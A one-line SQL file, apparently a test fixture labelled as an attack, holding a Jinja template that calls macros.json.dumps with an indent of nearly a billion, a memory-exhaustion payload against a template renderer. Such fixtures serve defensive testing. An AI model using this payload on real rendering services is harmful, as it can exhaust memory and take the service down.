-- ATTACK (.sql file): macros.json.dumps with a billion-space indent
SELECT '{{ macros.json.dumps([1], indent=999999999) }}' AS x
